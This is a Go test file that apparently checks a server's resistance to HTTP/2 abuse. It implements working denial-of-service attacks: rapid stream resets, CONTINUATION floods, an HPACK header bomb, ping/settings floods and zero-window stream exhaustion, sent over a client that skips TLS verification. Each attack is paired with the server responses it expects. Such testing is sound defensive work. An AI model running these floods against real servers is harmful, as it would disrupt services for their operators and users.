package server

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streamAttacks are what only HTTP/2 makes possible. Connections end with an
// error code of RFC 9113 §7, or are closed by whoever has had enough.
var streamAttacks = []attack{
	{"h2: requests reset at once", "held; closed by the server; ENHANCE_YOUR_CALM; PROTOCOL_ERROR", func(v *victim) {
		path := "/sparql?query=" + url.QueryEscape("SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
		v.streams(4, func(s *stream) error {
			for i := range uint32(2000 * v.scale) {
				id := 2*i + 1
				err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.request(path), EndStream: true, EndHeaders: true})
				if err == nil {
					err = s.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				if err != nil {
					return err
				}
			}
			return nil
		})
	}},
	{"h2: headers without an end", "closed by the server; COMPRESSION_ERROR; PROTOCOL_ERROR; ENHANCE_YOUR_CALM", func(v *victim) {
		v.streams(4, func(s *stream) error {
			err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.request("/"), EndStream: true})
			for i := 0; i < 5000*v.scale && err == nil; i++ {
				err = s.WriteContinuation(1, false, s.field("x-"+fmt.Sprint(i), strings.Repeat("a", 8000)))
			}
			return err
		})
	}},
	{"h2: headers that unpack to much", "431; closed by the server; ENHANCE_YOUR_CALM; PROTOCOL_ERROR; COMPRESSION_ERROR", func(v *victim) {
		v.streams(4, func(s *stream) error {
			block := append(s.request("/"), s.field("x", strings.Repeat("a", 3000))...)
			for range 12_000 { // each is a byte here and 3 kB there
				block = append(block, s.field("x", strings.Repeat("a", 3000))...)
			}
			return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true, EndHeaders: true})
		})
	}},
	{"h2: pings and settings", "held; closed by the server; ENHANCE_YOUR_CALM", func(v *victim) {
		v.streams(4, func(s *stream) error {
			var err error
			for i := 0; i < 10_000*v.scale && err == nil; i++ {
				if err = s.WritePing(false, [8]byte{}); err == nil && i%2 == 0 {
					err = s.WriteSettings()
				}
			}
			return err
		})
	}},
	{"h2: windows that stay shut", "held; closed by the server; 200; 503; 429", func(v *victim) {
		v.streams(2, func(s *stream) error {
			err := s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			for i := uint32(0); i < 90 && err == nil; i++ {
				err = s.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: s.request(graphStorePath), EndStream: true, EndHeaders: true})
			}
			time.Sleep(2 * time.Second)
			return err
		})
	}},
}

// stream is the attacker's end of a connection of HTTP/2.
type stream struct {
	*http2.Framer
	authority string
	packed    bytes.Buffer
	pack      *hpack.Encoder
}

// request returns the packed headers of a GET.
func (s *stream) request(path string) []byte {
	s.packed.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", s.authority}, {":path", path}, {"accept", "*/*"}} {
		_ = s.pack.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // to memory
	}
	return bytes.Clone(s.packed.Bytes())
}

// field returns a packed header.
func (s *stream) field(name, value string) []byte {
	s.packed.Reset()
	_ = s.pack.WriteField(hpack.HeaderField{Name: name, Value: value})
	return bytes.Clone(s.packed.Bytes())
}

// streams opens connections of HTTP/2 and attacks on each. It notes how each
// ended, or one of the statuses that came back.
func (v *victim) streams(connections int, attack func(*stream) error) {
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() { v.note(v.stream(attack)) })
	}
	wg.Wait()
}

func (v *victim) stream(attack func(*stream) error) string {
	raw, err := v.dialer.Dial("tcp", v.secure)
	if err != nil {
		return "refused"
	}
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	if err := c.Handshake(); err != nil || c.ConnectionState().NegotiatedProtocol != "h2" {
		return fmt.Sprintf("no HTTP/2: %v", err)
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return "closed by the server"
	}
	s := &stream{Framer: http2.NewFramer(c, c), authority: v.secure}
	s.pack = hpack.NewEncoder(&s.packed)
	if err := s.WriteSettings(); err != nil {
		return "closed by the server"
	}
	var status atomic.Value // of the last answer
	ended := make(chan string, 1)
	go func() {
		in := http2.NewFramer(nil, c)
		in.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
		for {
			f, err := in.ReadFrame()
			if err != nil {
				ended <- "closed by the server"
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				if f.ErrCode != http2.ErrCodeNo {
					ended <- f.ErrCode.String()
					return
				}
			case *http2.MetaHeadersFrame:
				status.Store(f.PseudoValue("status"))
			}
		}
	}()
	failed := attack(s) != nil
	select {
	case how := <-ended:
		return how
	case <-time.After(time.Second):
	}
	if failed {
		return "closed by the server"
	}
	if status, ok := status.Load().(string); ok {
		return status
	}
	return "held"
}
